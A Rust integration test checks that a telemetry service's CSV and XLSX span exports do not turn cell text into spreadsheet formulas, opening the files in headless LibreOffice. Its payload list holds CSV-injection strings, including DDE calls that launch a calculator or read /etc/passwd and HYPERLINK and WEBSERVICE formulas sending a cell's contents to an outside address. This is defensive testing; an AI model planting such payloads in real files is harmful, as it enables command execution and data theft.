//! What a spreadsheet makes of exported files: no cell is a formula, and numbers are numbers.

use std::path::Path;
use std::time::Duration;

use offtake_testkit::{SpanSketch, TestApp, run, text, value, within};
use opentelemetry_proto::tonic::common::v1::any_value::Value;
use serde_json::json;

use crate::support::{OFFTAKE, id_of, saved, send};

/// What becomes a formula where nobody takes care (OWASP, and what East Asian spreadsheets take for the same).
const FORMULAS: [&str; 24] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1+1",
    "\u{ff0d}1+1",
    "\u{ff20}SUM(1,1)",
    "=DDE(\"soffice\";\"/etc/passwd\";\"A1\")",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://192.0.2.1/?x=\"&A1,\"click\")",
    "=WEBSERVICE(\"http://192.0.2.1/\")",
    "=\"a\"&\"b\"",
    "\"=1+1\"",
    ",=1+1",
    ";=1+1",
    "a\r\n=1+1",
    "{=1+1}",
];

/// Converts a file as LibreOffice opens it; the flat document.
async fn opened(file: &Path, filter: Option<&str>) -> String {
    let folder = file.parent().expect("a folder");
    // A profile of its own: several may run at once.
    let profile = format!("-env:UserInstallation=file://{}/office", folder.display());
    let filter = filter.map(|filter| format!("--infilter={filter}"));
    let out = folder.join("opened");
    let (out_shown, file_shown) = (out.to_string_lossy(), file.to_string_lossy());
    let mut arguments = vec!["--headless", "--norestore", &profile, "--convert-to", "fods", "--outdir", &out_shown];
    arguments.extend(filter.as_deref());
    arguments.push(&file_shown);
    let ran = within("soffice", Duration::from_secs(120), run(Path::new("soffice"), &arguments, folder)).await;
    let name = format!("{}.fods", file.file_stem().expect("a name").to_string_lossy());
    std::fs::read_to_string(out.join(name))
        .unwrap_or_else(|error| panic!("{error}; run scripts/test-setup.sh: {ran:?}"))
}

/// Cells of this type.
fn cells(document: &str, ty: &str) -> usize {
    document.matches(&format!("office:value-type=\"{ty}\"")).count()
}

/// UTF-8, commas, quotes, and formulas are evaluated wherever something looks like one.
const WILLING: &str = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true";

#[tokio::test(flavor = "multi_thread")]
async fn no_cell_becomes_a_formula_and_numbers_stay_numbers() {
    let app = TestApp::start(OFFTAKE).await;
    let client = app.client("acme").await;
    let spans: Vec<SpanSketch> = FORMULAS
        .iter()
        .zip(1..)
        .map(|(formula, number)| {
            let mut span = SpanSketch::new(number)
                .with("input.value", text(formula))
                .with("output.value", text(formula))
                .with("user.id", text(formula))
                .with("gen_ai.usage.input_tokens", value(Value::IntValue(7)));
            (*formula).clone_into(&mut span.0.name);
            span
        })
        .collect();
    send(&client, &spans).await;
    let fields =
        json!(["name", "input", "output", "user_id", "duration_ms", "prompt_tokens", {"name": "type", "as": "=1+1"}]);

    let body = json!({"format": "csv", "dialect": "excel", "compression": "none", "fields": fields});
    let job = client.export("spans", &body).await;
    let receipt = client.receipt(id_of(&job)).await;
    let csv = saved(&app, &client, &job).await.with_extension("csv");
    std::fs::write(&csv, client.download(id_of(&job)).await).expect("saved");
    let document = opened(&csv, Some(WILLING)).await;
    assert_eq!(document.matches("table:formula=").count(), 0, "a formula: {document:.4000}");
    assert_eq!(cells(&document, "float"), 2 * FORMULAS.len(), "duration and tokens are numbers");
    // Four texts per row begin with what is guarded; and so does a header.
    assert!(receipt["guarded_cells"].as_u64().is_some_and(|guarded| guarded > 4 * 15), "{receipt}");

    // The same reader makes formulas of what is not guarded: the test would see one.
    let job = client.export("spans", &json!({"format": "csv", "compression": "none", "fields": fields})).await;
    let exact = csv.with_file_name("exact.csv");
    std::fs::write(&exact, client.download(id_of(&job)).await).expect("saved");
    assert!(opened(&exact, Some(WILLING)).await.contains("table:formula="), "the exact file has formulas");

    let job = client.export("spans", &json!({"format": "xlsx", "fields": fields})).await;
    let xlsx = csv.with_file_name("spans.xlsx");
    std::fs::write(&xlsx, client.download(id_of(&job)).await).expect("saved");
    let document = opened(&xlsx, None).await;
    assert_eq!(document.matches("table:formula=").count(), 0, "a formula: {document:.4000}");
    assert_eq!(cells(&document, "float"), 2 * FORMULAS.len());
    assert!(document.contains("=1+1"), "the texts are there as they are");
}
